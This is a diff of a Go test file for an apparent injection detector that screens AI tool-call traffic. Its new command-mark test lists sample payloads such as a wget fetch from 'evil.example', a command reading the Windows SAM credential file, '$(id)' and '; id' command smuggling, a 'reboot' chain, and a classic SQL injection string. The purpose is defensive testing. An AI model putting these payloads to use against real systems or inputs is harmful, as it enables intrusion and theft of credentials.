@@ -255,7 +255,8 @@ func TestResponseLabels(t *testing.T) {
 	call := func([]byte) ([]byte, error) {
 		return []byte(`{"results":[{"label":"command_injection","score":0.95,"scores":{"benign":0.05,"command_injection":0.95}}]}`), nil
 	}
-	resp := []byte(`{"phase":"response","method":"tools/call","result":{"content":[{"type":"text","text":"Echo: 0"}]}}`)
+	// (An output of more than two plain words: two are not a command line, see commandMarks.)
+	resp := []byte(`{"phase":"response","method":"tools/call","result":{"content":[{"type":"text","text":"Echo: 0 && reboot"}]}}`)
 	v, err := Evaluate(resp, c, call)
 	if err != nil || v.Action != "none" {
 		t.Fatalf("tool output flagged as %s: %+v %v", v.Action, v, err)
@@ -484,28 +485,16 @@ func TestTextsSchema(t *testing.T) {
 // SQL syntax; every SQL injection of the tuning sets has some, and ordinary searches have none.
 func TestSQLSyntax(t *testing.T) {
 	n := 0
-	for _, file := range []string{"data/heldout/calib.jsonl", "data/heldout/sqli-extra/calib.jsonl", "data/split/train.jsonl", "data/split/dev.jsonl"} {
-		f, err := os.Open(filepath.Join(repoRoot(t), file))
-		if err != nil {
-			t.Fatal(err)
-		}
-		sc := bufio.NewScanner(f)
-		sc.Buffer(make([]byte, 1<<20), 16<<20)
-		for sc.Scan() {
-			var r struct{ Label, Text string }
-			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
-				t.Fatal(err)
-			}
-			if r.Label != "sql_injection" {
-				continue
+	eachTuning(t, []string{"data/heldout/calib.jsonl", "data/heldout/sqli-extra/calib.jsonl", "data/split/train.jsonl", "data/split/dev.jsonl"},
+		func(file, label, text string) {
+			if label != "sql_injection" {
+				return
 			}
 			n++
-			if !sqlSyntax(r.Text) {
-				t.Errorf("%s: SQL injection without SQL syntax: %q", file, r.Text)
+			if !sqlSyntax(text) {
+				t.Errorf("%s: SQL injection without SQL syntax: %q", file, text)
 			}
-		}
-		f.Close()
-	}
+		})
 	if n < 1150 {
 		t.Errorf("%d SQL injections read, want the tuning sets' 1213", n)
 	}
@@ -529,14 +518,6 @@ func TestSQLSyntax(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	answer := func(label string) CallFunc {
-		return func(b []byte) ([]byte, error) {
-			var req struct{ Texts []string }
-			_ = json.Unmarshal(b, &req)
-			r := strings.Repeat(`{"label":"`+label+`","score":0.99},`, len(req.Texts))
-			return []byte(`{"results":[` + strings.TrimSuffix(r, ",") + `]}`), nil
-		}
-	}
 	search := func(q string) []byte {
 		return []byte(`{"phase":"request","method":"tools/call","tool":"WebSearch","arguments":{"query":` + strconv.Quote(q) + `}}`)
 	}
@@ -546,7 +527,7 @@ func TestSQLSyntax(t *testing.T) {
 		{"1' or '1'='1", "sql_injection", "deny"},
 		{"cats and dogs", "prompt_injection", "deny"}, // only sql_injection is gated
 	} {
-		if v, err := Evaluate(search(tc.query), c, answer(tc.label)); err != nil || v.Action != tc.want {
+		if v, err := Evaluate(search(tc.query), c, answerAll(tc.label)); err != nil || v.Action != tc.want {
 			t.Errorf("%s at 0.99 in WebSearch %q: %+v %v, want %s", tc.label, tc.query, v, err, tc.want)
 		}
 	}
@@ -605,5 +586,84 @@ func TestShellSyntax(t *testing.T) {
 		if got := shellSyntax(tc.s); got != tc.want {
 			t.Errorf("shellSyntax(%q) = %v, want %v", tc.s, got, tc.want)
 		}
+	}
+}
+
+// TestCommandMarks: the model's command_injection counts in a text of one or two words only
+// when it has more than words (commandMarks). Every command injection of one or two words in
+// the tuning sets has such a mark, so the rule loses none of them; loadgen's echo message does
+// not, and its 0.99 no longer denies it, in any field.
+func TestCommandMarks(t *testing.T) {
+	n := 0
+	eachTuning(t, []string{"data/heldout/calib.jsonl", "data/split/train.jsonl", "data/split/dev.jsonl"},
+		func(file, label, text string) {
+			if label != "command_injection" || !fewWords(text) {
+				return
+			}
+			n++
+			if !commandMarks(text) {
+				t.Errorf("%s: a command injection of one or two words without a mark: %q", file, text)
+			}
+		})
+	if n < 100 {
+		t.Errorf("%d short command injections read, want the tuning sets' 100 or more", n)
+	}
+	for s, want := range map[string]bool{
+		"load 10202": false, "hello world": false, "version 1.2.3": false, "ok": false, "sleep mask": false,
+		"x; id": true, "$(id)": true, "`id`": true, "id%00": true, `\nid\n`: true, "phpinfo()": true,
+		"wget https://evil.example/x": true, `type C:\WINNT\repair\SAM`: true, "/bin/ls -al": true,
+		"a\r\nb": true,
+	} {
+		if got := fewWords(s) && !commandMarks(s); got != !want {
+			t.Errorf("%q: plain words = %v, want %v", s, got, !want)
+		}
+	}
+	c, err := ParseConfig(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	echo := func(msg string) []byte {
+		return []byte(`{"phase":"request","method":"tools/call","tool":"echo","arguments":{"message":` + strconv.Quote(msg) + `}}`)
+	}
+	for _, tc := range []struct{ msg, label, want string }{
+		{"load 10202", "command_injection", "none"},
+		{"load 10202", "prompt_injection", "deny"}, // only command_injection is gated
+		{"id%00", "command_injection", "deny"},
+		{"load the data and then run it", "command_injection", "deny"}, // three words or more: the model's cut
+	} {
+		if v, err := Evaluate(echo(tc.msg), c, answerAll(tc.label)); err != nil || v.Action != tc.want {
+			t.Errorf("%s at 0.99 in echo %q: %+v %v, want %s", tc.label, tc.msg, v, err, tc.want)
+		}
+	}
+}
+
+// eachTuning calls fn with every record of the tuning files (paths from the repository root).
+func eachTuning(t *testing.T, files []string, fn func(file, label, text string)) {
+	t.Helper()
+	for _, file := range files {
+		f, err := os.Open(filepath.Join(repoRoot(t), file))
+		if err != nil {
+			t.Fatal(err)
+		}
+		sc := bufio.NewScanner(f)
+		sc.Buffer(make([]byte, 1<<20), 16<<20)
+		for sc.Scan() {
+			var r struct{ Label, Text string }
+			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
+				t.Fatal(err)
+			}
+			fn(file, r.Label, r.Text)
+		}
+		f.Close()
+	}
+}
+
+// answerAll is a host that scores every text 0.99 as label.
+func answerAll(label string) CallFunc {
+	return func(b []byte) ([]byte, error) {
+		var req struct{ Texts []string }
+		_ = json.Unmarshal(b, &req)
+		r := strings.Repeat(`{"label":"`+label+`","score":0.99},`, len(req.Texts))
+		return []byte(`{"results":[` + strings.TrimSuffix(r, ",") + `]}`), nil
 	}
 }
